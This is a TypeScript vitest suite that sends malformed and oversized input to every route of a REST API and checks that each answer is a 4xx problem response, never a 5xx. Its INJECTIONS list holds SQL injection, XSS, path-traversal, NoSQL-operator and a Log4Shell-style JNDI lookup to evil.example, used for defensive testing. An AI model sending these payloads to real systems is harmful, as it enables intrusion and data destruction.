import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CASES, type RouteCase } from './cases.js';
import { call, isProblem, type Answer, type Call } from './client.js';
import { startApi, type ApiHarness, type EngineSet } from './harness.js';
import { buildWorld, type World } from './world.js';

const INJECTIONS = [
  "'; DROP TABLE users; --",
  '" OR "1"="1',
  '<script>alert(1)</script>',
  '../../../../etc/passwd',
  '${jndi:ldap://evil.example/a}',
  '\u0000\u001b[31m',
  '{"$gt": ""}',
  '%00%27',
  '\ud800',
];

const PAGINATED = new Set([
  '/api/v1/tenants', '/api/v1/users', '/api/v1/api-keys', '/api/v1/audit', '/api/v1/sites', '/api/v1/sites/:siteId/config/versions',
  '/api/v1/sites/:siteId/commands', '/api/v1/assets', '/api/v1/alerts', '/api/v1/alerts/:id/events', '/api/v1/workorders',
  '/api/v1/workorders/:id/history', '/api/v1/workorder-rules',
]);

/** A value of another JSON type than `v`, for "wrong type" probes. */
function otherType(v: unknown): unknown {
  if (typeof v === 'string') return 12345;
  if (typeof v === 'number') return '12345';
  if (typeof v === 'boolean') return 'yes';
  if (Array.isArray(v)) return 'not an array';
  if (v === null) return 123;
  return 'not an object';
}

/**
 * Bad input on every route: wrong types, unknown fields, huge bodies and arrays, malformed
 * JSON, wrong content types, injection-shaped strings in bodies and paths, invalid cursors and
 * query values. The answer is always a 4xx problem+json, or a success for harmless text; never 5xx.
 */
export function badInputSuite(engine: string, engines: () => EngineSet): void {
  describe(`bad input on ${engine}`, () => {
    let h: ApiHarness;
    let w: World;
    beforeAll(async () => {
      h = await startApi(engines());
      w = await buildWorld(h);
    });
    afterAll(async () => h?.close());

    const send = (c: RouteCase, req: Omit<Call, 'method'>) => call(h, { ...req, method: c.method, headers: { ...w.principal('admin').headers, ...req.headers } });
    const refused = (a: Answer, status?: number) => a.status >= 400 && a.status < 500 && isProblem(a) && (status === undefined || a.status === status);
    const describeAnswer = (a: Answer) => `${a.status} ${a.contentType} ${JSON.stringify(a.body).slice(0, 300)}`;

    for (const c of CASES.filter((x) => !x.stream)) {
      it(`${c.method} ${c.route}${c.label ? ` (${c.label})` : ''}`, async () => {
        const req = await c.build(w, 'own', w.principal('admin'));
        const problems: string[] = [];
        const expectRefused = async (what: string, probe: Omit<Call, 'method'>, status?: number) => {
          const a = await send(c, probe);
          if (!refused(a, status)) problems.push(`${what}: ${describeAnswer(a)}`);
        };
        const expectNo5xx = async (what: string, probe: Omit<Call, 'method'>) => {
          const a = await send(c, probe);
          if (a.status >= 500 || (a.status >= 400 && !isProblem(a))) problems.push(`${what}: ${describeAnswer(a)}`);
        };
        const body = req.body;
        const headers = req.headers ?? {};
        if (body !== undefined && body !== null && typeof body === 'object' && !Array.isArray(body)) {
          const obj = body as Record<string, unknown>;
          await expectRefused('array body', { url: req.url, body: [], headers }, 400);
          await expectRefused('unknown field', { url: req.url, body: { ...obj, notAField: 1 }, headers }, 400);
          await expectRefused('malformed JSON', { url: req.url, raw: '{"a": ', headers: { ...headers, 'content-type': 'application/json' } }, 400);
          await expectRefused('text/plain', { url: req.url, raw: 'hello', headers: { ...headers, 'content-type': 'text/plain' } }, 415);
          const deep = `${'['.repeat(5000)}${']'.repeat(5000)}`;
          await expectRefused('deeply nested', { url: req.url, raw: deep, headers: { ...headers, 'content-type': 'application/json' } });
          const huge = c.route.endsWith('/config') ? 9 * 1024 * 1024 : 2 * 1024 * 1024;
          await expectRefused('huge body', { url: req.url, body: { ...obj, blob: 'x'.repeat(huge) }, headers }, 413);
          await expectRefused('huge array', { url: req.url, body: { ...obj, list: new Array(100_000).fill('a') }, headers });
          for (const [key, value] of Object.entries(obj)) {
            await expectRefused(`wrong type for ${key}`, { url: req.url, body: { ...obj, [key]: otherType(value) }, headers }, 400);
            if (Array.isArray(value)) await expectRefused(`huge array in ${key}`, { url: req.url, body: { ...obj, [key]: new Array(100_000).fill(value[0] ?? 'a') }, headers });
            if (typeof value === 'string') {
              for (const s of INJECTIONS) await expectNo5xx(`injection in ${key}`, { url: req.url, body: { ...obj, [key]: s }, headers });
              await expectRefused(`overlong ${key}`, { url: req.url, body: { ...obj, [key]: 'x'.repeat(100_000) }, headers }, 400);
            }
          }
        } else if (c.method !== 'GET' && c.method !== 'DELETE') {
          await expectRefused('body where none is due', { url: req.url, raw: 'x', headers: { ...headers, 'content-type': 'text/plain' } }, 415);
        }

        // Path parameters: injection-shaped values are a 400 (malformed) or a 404, nothing else.
        const params = c.route.match(/:\w+/g) ?? [];
        if (params.length > 0) {
          const template = c.route.split('/');
          const actual = req.url.split('?')[0]!.split('/');
          for (let i = 0; i < template.length; i++) {
            if (!template[i]!.startsWith(':') || template[i] === ':name') continue;
            for (const s of [...INJECTIONS.slice(0, 6), 'x'.repeat(190), '00000000-0000-7000-8000-000000000000']) {
              const parts = [...actual];
              parts[i] = encodeURIComponent(s);
              const url = parts.join('/') + (req.url.includes('?') ? `?${req.url.split('?')[1]}` : '');
              const a = await send(c, { url, body: req.body, headers });
              if (!(refused(a) && (a.status === 400 || a.status === 404))) problems.push(`path ${template[i]}=${JSON.stringify(s).slice(0, 40)}: ${describeAnswer(a)}`);
            }
          }
        }

        // Query strings: pagination and typed values.
        const base = req.url.split('?')[0]!;
        const query = req.url.includes('?') ? `${req.url.split('?')[1]}&` : '';
        if (PAGINATED.has(c.route)) {
          const other = Buffer.from(JSON.stringify(['somewhere-else', 'x'])).toString('base64url');
          const shape = Buffer.from(JSON.stringify(['alerts', 'not-a-number', 5])).toString('base64url');
          for (const [what, q] of [
            ['limit=abc', 'limit=abc'],
            ['limit=0', 'limit=0'],
            ['limit=100000', 'limit=100000'],
            ['cursor garbage', 'cursor=%25%25%25'],
            ['cursor of another list', `cursor=${other}`],
            ['cursor of a wrong shape', `cursor=${shape}`],
            ['cursor too long', `cursor=${'A'.repeat(600)}`],
            ['unknown parameter', 'bogus=1'],
          ] as const) {
            await expectRefused(what, { url: `${base}?${query}${q}`, headers }, 400);
          }
        }
        if (/[?&](from|to)=/.test(req.url)) {
          await expectRefused('from=yesterday', { url: `${base}?${req.url.split('?')[1]!.replace(/from=[^&]*/, 'from=yesterday')}`, headers }, 400);
          await expectRefused('from=-5', { url: `${base}?${req.url.split('?')[1]!.replace(/from=[^&]*/, 'from=-5')}`, headers }, 400);
        }
        expect(problems).toEqual([]);
      });
    }

    it('the database is intact afterwards', async () => {
      const sites = await call(h, { method: 'GET', url: '/api/v1/sites', headers: w.principal('admin').headers });
      expect(sites.status).toBe(200);
      expect((await h.registry.users.count()) > 0).toBe(true);
    });
  });
}
